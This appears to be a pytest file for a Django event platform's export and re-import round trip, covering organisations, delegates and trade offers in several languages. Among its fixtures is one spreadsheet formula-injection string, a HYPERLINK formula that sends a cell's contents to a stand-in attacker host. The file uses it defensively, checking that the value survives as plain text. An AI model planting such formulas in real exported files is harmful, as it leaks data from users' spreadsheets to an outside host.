"""Export, edit-free re-import: the delegates, organisations and offers / requests files of
one event, imported through the import service into a fresh event, give the same data."""

from __future__ import annotations

import pytest
from django.urls import reverse

from keruen.console.exports import EXPORTS
from keruen.imports.services import import_file
from keruen.marketplace.models import Opportunity
from keruen.people.models import Organisation, Participant
from tests.factories import (
    DelegationFactory,
    EventFactory,
    OpportunityFactory,
    OrganisationFactory,
    ParticipantFactory,
    UserFactory,
)

# The export of each import kind, in the order an import must run.
IMPORT_ORDER = (
    ("organisations", "organisations"),
    ("delegates", "participants"),
    ("opportunities", "opportunities"),
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def rich_event(event, organiser):
    """Organisations, people and offers in four languages, with every column filled
    somewhere and the awkward values: commas, quotes, line breaks, leading zeros, a
    formula-like title, statuses other than the importers' defaults."""
    delegation = DelegationFactory(event=event, code="kz-gov")
    grain = OrganisationFactory(
        event=event,
        code="kaz-grain",
        name={"en": "KazGrain Holding", "zh-hans": "哈萨克粮食控股", "ru": "КазГрейн Холдинг"},
        description={
            "en": 'Wheat, barley and "oilseeds".\nOwn elevators on the railway to China.',
            "kk": "Астық өндіруші және экспорттаушы.",
        },
        language="ru",
        type=Organisation.Type.AGENCY,
        country="KZ",
        city="Astana",
        sectors=["01", "10"],
        hs_codes=["10", "1001"],
        size=Organisation.Size.LARGE,
        website="https://kazgrain.example.com",
        delegation=delegation,
        is_exhibitor=True,
    )
    machines = OrganisationFactory(
        event=event,
        code="xj-agrimach",
        name={"zh-hans": "新疆农业机械有限公司"},
        description={},
        language="zh",
        country="CN",
        sectors=[],
        hs_codes=[],
    )
    organiser.organisation = grain
    organiser.save()
    aigerim = ParticipantFactory(
        event=event,
        user=UserFactory(email="aigerim@example.com"),
        organisation=grain,
        delegation=delegation,
        given_name="Айгерим",
        family_name="Нурланова",
        name_latin="Aigerim Nurlanova",
        role=Participant.Role.EXHIBITOR,
        title={"en": "Export director", "kk": "Экспорт жөніндегі директор"},
        languages=["kk", "ru", "en"],
        public_listing=True,
        contact_email="export@kazgrain.example.com",
        phone="+7 701 555 0101",
        messenger="@aigerim_kz",
        target_countries=["CN", "UZ"],
    )
    ParticipantFactory(
        event=event,
        user=UserFactory(email="wang.lei@example.com"),
        organisation=machines,
        given_name="磊",
        family_name="王",
        status=Participant.Status.PENDING,
        title={"zh-hans": "中亚区销售经理"},
        languages=["zh"],
        contact_email="",
        target_countries=[],
    )
    ParticipantFactory(
        event=event,
        organisation=machines,
        status=Participant.Status.REJECTED,
        role=Participant.Role.MEDIA,
    )
    OpportunityFactory(
        organisation=grain,
        author=aigerim,
        direction=Opportunity.Direction.OFFER,
        kind=Opportunity.Kind.PRODUCT,
        language="ru",
        title="Пшеница 3 класса, до 50 000 т",
        body='Протеин от 12,5 %;\nотгрузка через "Достык".',
        translations={
            "en": {"title": "Class 3 wheat", "body": "Protein from 12.5 %."},
            "zh": {"title": "三级小麦", "body": "蛋白质含量12.5%以上。"},
        },
        sectors=["01"],
        hs_codes=["1001"],
        target_countries=["CN", "UZ"],
    )
    OpportunityFactory(
        organisation=machines,
        author=None,
        direction=Opportunity.Direction.REQUEST,
        kind=Opportunity.Kind.SERVICE,
        language="en",
        title=FORMULA,
        body="Spare parts stores in Almaty.",
        status=Opportunity.Status.DRAFT,
    )
    OpportunityFactory(
        organisation=grain,
        author=aigerim,
        direction=Opportunity.Direction.REQUEST,
        kind=Opportunity.Kind.PARTNERSHIP,
        language="kk",
        title="Серіктес іздейміз",
        body="Астық сақтау қоймалары.",
        status=Opportunity.Status.REJECTED,
    )
    return event


def _organisations(event) -> dict[str, tuple]:
    return {
        o.code: (
            o.name,
            o.description,
            o.language,
            o.type,
            o.country,
            o.city,
            o.sectors,
            o.hs_codes,
            o.size,
            o.website,
            o.delegation.code if o.delegation else None,
            o.is_exhibitor,
        )
        for o in Organisation.objects.filter(event=event).select_related("delegation")
    }


def _participants(event) -> dict[str, tuple]:
    rows = Participant.objects.filter(event=event).select_related(
        "user", "organisation", "delegation"
    )
    return {
        p.user.email: (
            p.given_name,
            p.family_name,
            p.name_latin,
            p.organisation.code,
            p.role,
            p.status,
            p.title,
            p.languages,
            p.public_listing,
            p.contact_email,
            p.phone,
            p.messenger,
            p.delegation.code if p.delegation else None,
            p.target_countries,
        )
        for p in rows
    }


def _opportunities(event) -> dict[tuple, tuple]:
    rows = Opportunity.objects.filter(event=event).select_related("organisation", "author__user")
    return {
        (o.organisation.code, o.direction, o.title): (
            o.author.user.email if o.author else None,
            o.kind,
            o.language,
            o.body,
            o.translations,
            o.sectors,
            o.hs_codes,
            o.target_countries,
            o.status,
        )
        for o in rows
    }


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_then_import_into_a_fresh_event_gives_the_same_data(
    organiser_client, rich_event, file_format
) -> None:
    fresh = EventFactory()
    DelegationFactory(event=fresh, code="kz-gov")  # delegations are made in the admin
    url = reverse("console-exports", args=[rich_event.slug])
    for export, kind in IMPORT_ORDER:
        response = organiser_client.get(url, {"download": export, "format": file_format})
        assert response.status_code == 200
        report = import_file(
            event=fresh,
            kind=kind,
            data=response.content,
            filename=f"{rich_event.slug}-{export}.{file_format}",
        )
        assert (
            report.rows == EXPORTS[export].model._default_manager.filter(event=rich_event).count()
        )

    assert _organisations(fresh) == _organisations(rich_event)
    assert _participants(fresh) == _participants(rich_event)
    assert _opportunities(fresh) == _opportunities(rich_event)
    assert len(_opportunities(fresh)) == 3  # the keys (organisation, direction, title) differ
    # And the fresh event exports the very same files.
    for export, _kind in IMPORT_ORDER:
        kind = EXPORTS[export]
        assert kind.build(fresh, None) == kind.build(rich_event, None)


def test_the_formula_like_title_survives_as_text(organiser_client, rich_event) -> None:
    fresh = EventFactory()
    DelegationFactory(event=fresh, code="kz-gov")
    url = reverse("console-exports", args=[rich_event.slug])
    for export, kind in IMPORT_ORDER:
        data = organiser_client.get(url, {"download": export, "format": "xlsx"}).content
        import_file(event=fresh, kind=kind, data=data, filename=f"{export}.xlsx")
    assert Opportunity.objects.filter(event=fresh, title=FORMULA).exists()
